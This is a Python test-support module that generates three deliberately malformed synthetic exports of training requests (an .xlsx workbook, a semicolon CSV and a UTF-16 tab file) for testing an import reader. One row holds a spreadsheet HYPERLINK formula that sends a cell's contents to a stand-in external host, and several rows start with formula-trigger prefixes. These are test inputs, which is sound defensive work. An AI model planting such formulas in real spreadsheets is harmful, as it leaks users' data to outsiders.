"""Three unlike exports of past requests, each with the faults that its kind of export has. Nobody in them is real.

    python -m tests.support.messy_exports FOLDER

writes them, 500 requests each: a workbook from a form tool, a semicolon file from a ticket system, and what a survey
tool calls "Unicode text".
"""

from __future__ import annotations

import csv
import sys
from collections.abc import Callable
from datetime import datetime, time
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any, NamedTuple

from openpyxl import Workbook
from openpyxl.styles import Font

from .past_requests import Request, past_requests

__all__ = ["Export", "form_workbook", "survey_text", "ticket_csv"]

COUNT = 500


class Export(NamedTuple):
    """One file, and what is in it."""

    name: str
    data: bytes
    columns: tuple[str, ...]
    """As the reader should name them."""
    readable: int
    """Requests that can be read."""
    refused: tuple[int, ...]
    """Numbers of the rows that cannot."""


FORM = {
    "What happened that made you ask now?": ("trigger", {
        "going_wrong": "Something is not working", "new_thing": "New system or process",
        "people_joining": "New joiners",
        "rule_named": "A regulation requires it (please name it)", "rule_said": "I was told that it is mandatory",
        "senior_asked": "Leadership asked for it", "people_want_growth": "Personal development", "wish": "Just an idea",
    }),
    "How many people would work differently?": ("scope", {
        "one_or_two": "1-2", "one_team": "A team", "several_teams": "Several teams", "most_of_us": "Whole company",
    }),
    "Could they do it today if they had to?": ("can_do", {
        "most_could": "Yes, most of them", "know_not_do": "They know how but don't do it",
        "not_under_pressure": "Slowly", "some_could": "Some of them", "most_could_not": "No",
        "too_new": "Nobody can, it is new",
    }),
    "Is there anything on this already?": ("existing_content", {
        "fits": "Yes, and it fits", "not_known": "Yes, but nobody knows it", "hard_to_use": "Yes, but hard to find",
        "used_no_change": "Yes, they did it, no change", "used_unclear": "Yes, they did it", "partly": "Partly",
        "reference_only": "Only a manual", "nothing_fits": "No",
    }),
    "What if we did nothing for 3 months?": ("stakes", {
        "nothing_much": "Not much", "annoyance": "Annoying", "team_number": "Our KPIs suffer",
        "business_target": "Customers or targets suffer", "harm_possible": "Someone could get hurt / legal risk",
    }),
    "Which goal does it serve?": ("goal", {
        "named_number": "A KPI on the business plan", "team_goal": "A team goal",
        "general_priority": "General priority",
        "none_named": "Don't know",
    }),
    "What drives the date?": ("urgency", {
        "fixed_date": "Audit, law or launch", "people_start": "Start date of new people", "senior_date": "Management",
        "would_like": "Would be nice", "no_date": "No date",
    }),
}  # fmt: skip
TICKETS = {
    "Reason": ("trigger", {
        "going_wrong": "Problem", "new_thing": "Einführung (new tool)", "people_joining": "Onboarding",
        "rule_named": "Compliance", "rule_said": "Compliance?", "senior_asked": "Mgmt. request",
        "people_want_growth": "Development", "wish": "Idea",
    }),
    "Tried before": ("tried", {
        "nothing_yet": "nothing", "told_people": "e-mail / announcement", "trained_no_change": "course – no effect",
        "trained_faded": "course – helped for a while", "trained_unclear": "course – effect unknown",
        "warned": "escalated",
    }),
    "Obstacle reported": ("in_the_way", {
        "system_or_tool": "IT system", "supplies_missing": "Équipement / material", "too_many_steps": "Approval steps",
        "rules_complex": "Rules unclear", "not_enough_time": "No time",
    }),
    "Evidence": ("last_time", {
        "saw_it": "seen first-hand", "heard_of_it": "hearsay", "number_shows": "report attached", "no_case": "none",
    }),
}  # fmt: skip
SURVEY = {
    "Audience size": ("scope", {
        "one_or_two": "Individual", "one_team": "Team", "several_teams": "Function", "most_of_us": "Enterprise",
    }),
    "How often is the task done?": ("how_often_done", {
        "daily": "Every day", "weekly": "Every week", "monthly": "Every month", "few_a_year": "Rarely",
    }),
    "Do people know what good looks like?": ("standard_known", {
        "written_seen": "Yes, in writing", "shown_examples": "Yes, with examples",
        "written_buried": "Somewhere in a PDF",
        "told_once": "They were told", "pick_it_up": "They pick it up", "depends_whom": "Depends who you ask",
    }),
    "Does the process work if followed?": ("process_works", {
        "works": "Yes", "works_slowly": "Yes, slowly", "not_every_case": "Not always",
        "no_agreed_steps": "No agreed process",
    }),
    "Enough time on a busy day?": ("busy_day", {"enough": "Yes", "tight": "Barely", "not_enough": "No"}),
    "How would you see that it worked?": ("measure", {
        "existing_number": "An existing metric", "watch_the_work": "Observation",
        "completions_quiz": "Completion / quiz",
        "nothing_so_far": "Not defined",
    }),
}  # fmt: skip
Forms = dict[str, tuple[str, dict[str, str]]]


def _answers(request: Request, form: Forms) -> list[str]:
    return [words.get(request.facts.get(question, ""), "") for question, words in form.values()]


def form_workbook() -> Export:
    """An .xlsx from a form tool that a person has prettied up: titles above the header, typed dates, a second sheet."""
    columns = (
        "ID", "Start time", "Completion time", "How did it reach us?", "Your role", "Your department",
        "What do you need? (free text)", "Who is it for?", "What is it about?", *FORM, "When do you need it?",
        "What did we deliver?", "Hours spent", "Money spent (EUR)",
    )  # fmt: skip
    book = Workbook()
    sheet: Any = book.active
    sheet.title = "Form responses 1"
    sheet["A1"] = "Training requests 2023/24 – intake form"
    sheet["A1"].font = Font(bold=True, size=16)
    sheet.merge_cells("A1:F1")
    sheet["A2"] = "Exported by the learning team"
    sheet.append([])
    sheet.append(columns)
    requests = past_requests(COUNT, 31)
    refused = []
    for request in requests:
        row = sheet.max_row + 1
        for column, value in enumerate(_form_row(request), 1):
            _put(sheet.cell(row, column), value)
        if request.number in {77, 301}:  # added up by hand, and never opened in a program that works it out
            sheet.cell(row, columns.index("Hours spent") + 1).value = "=SUM(8,4)"
            refused.append(row)
    for _ in range(20):  # rows that were formatted once and hold nothing
        sheet.cell(sheet.max_row + 1, 3).number_format = "dd/mm/yyyy"
    lists: Any = book.create_sheet("Lists")
    lists.append(["Departments", "Channels"])
    book.properties.created = book.properties.modified = datetime(2024, 11, 4)
    out = BytesIO()
    book.save(out)
    return Export("form-responses.xlsx", out.getvalue(), columns, COUNT - len(refused), tuple(refused))


def _form_row(request: Request) -> list[Any]:
    text = request.text
    if request.number % 50 == 7:
        text = f"=> {text}"
    elif request.number % 50 == 8:
        text = f"- refresher\n- certificate\n{text}"
    elif request.number % 50 == 9:
        text = f"@team {text}"
    elif request.number == 130:
        text = '=HYPERLINK("http://example.invalid/?"&A5;"open")'
    received = datetime.combine(request.received, time(8 + request.number % 9, request.number % 60))
    number: Any = request.number if request.number % 2 else f"{request.number:05}"
    return [
        number, received, received, request.channel, request.role, request.department, text, request.kind.audience,
        request.kind.topic, *_answers(request, FORM), request.deadline, request.kind.delivered, request.hours or None,
        request.money or None,
    ]  # fmt: skip


def _put(cell: Any, value: Any) -> None:
    cell.value = value or None
    if isinstance(value, str):
        cell.data_type = "s"
    elif isinstance(value, int):
        cell.number_format = "00000"


def ticket_csv() -> Export:
    """What a ticket system saves for Western Excel: `sep=;`, Windows-1252, decimal commas, one quote never closed."""
    columns = (
        "Ticket", "Received", "Channel", "Requested by", "Cost centre", "Request", "Target group", "Subject",
        "Deadline",
        *TICKETS, "Résultat", "Hours", "Cost (€)",
    )  # fmt: skip
    text = StringIO(newline="")
    text.write("sep=;\r\n")
    writer = csv.writer(text, delimiter=";")
    writer.writerow(columns)
    refused = []
    for request in past_requests(COUNT, 32):
        row = _ticket_row(request)
        if request.number in {58, 59, 402}:  # cut off by hand
            row = row[:6]
            refused.append(request.number + 1)
        if request.number == 222:
            line = StringIO(newline="")
            csv.writer(line, delimiter=";").writerow([*row[:5], "Please train them", *row[6:]])
            text.write(line.getvalue().replace("Please train them", '"Please train them'))
            refused.append(request.number + 1)
        else:
            writer.writerow(row)
    data = text.getvalue().encode("cp1252", "replace")
    return Export("tickets.csv", data, columns, COUNT - len(refused), tuple(refused))


def _ticket_row(request: Request) -> list[str]:
    return [
        f"{request.number:06}", f"{request.received:%d.%m.%Y}", request.channel, request.role,
        f"{request.number % 9:04}",
        request.text, request.kind.audience, request.kind.topic,
        f"{request.deadline:%d.%m.%Y}" if request.deadline else "", *_answers(request, TICKETS), request.kind.delivered,
        f"{request.hours:.1f}".replace(".", ","), f"{request.money:.2f}".replace(".", ","),
    ]  # fmt: skip


def survey_text() -> Export:
    """UTF-16 with tabs: the same heading three times, empty rows, and control characters that a form let in."""
    columns = (
        "#", "Submitted", "Submitted by (job title)", "Business unit", "Describe your training need", "Comments",
        "Audience", "Topic", *SURVEY, "Requested date", "Comments", "Deliverable", "Effort (h)", "Spend (USD)",
        "Comments",
    )  # fmt: skip
    text = StringIO(newline="")
    writer = csv.writer(text, delimiter="\t")
    writer.writerow(columns)
    refused: list[int] = []
    row = 1
    for request in past_requests(COUNT, 33):
        row += 1
        if request.number % 60 == 0:
            writer.writerow([] if request.number % 120 else [""] * len(columns))
            row += 1
        cells = _survey_row(request)
        if request.number in {15, 333}:
            cells.append("see mail")
            refused.append(row)
        writer.writerow(cells)
    named = list(columns)
    named[columns.index("Requested date") + 1] = "Comments 2"
    named[-1] = "Comments 3"
    data = b"\xff\xfe" + text.getvalue().encode("utf-16-le")
    return Export("survey.txt", data, tuple(named), COUNT - len(refused), tuple(refused))


def _survey_row(request: Request) -> list[str]:
    need = request.text.replace(" ", "\x0b", 1) if request.number % 25 == 3 else request.text
    comment = "called back\x07" if request.number % 40 == 5 else ""
    deadline = request.deadline
    return [
        str(request.number), f"{request.received:%m/%d/%Y}", request.role.title(), request.department, need, comment,
        request.kind.audience, request.kind.topic, *_answers(request, SURVEY),
        f"{deadline:%m/%d/%Y}" if deadline else "", "", request.kind.delivered, f"{request.hours:g}",
        f"{request.money:,.2f}", "",
    ]  # fmt: skip


ALL: tuple[Callable[[], Export], ...] = (form_workbook, ticket_csv, survey_text)

if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for make in ALL:
        export = make()
        (folder / export.name).write_bytes(export.data)
        print(f"{folder / export.name}: {export.readable} requests, and {len(export.refused)} rows that cannot be read")
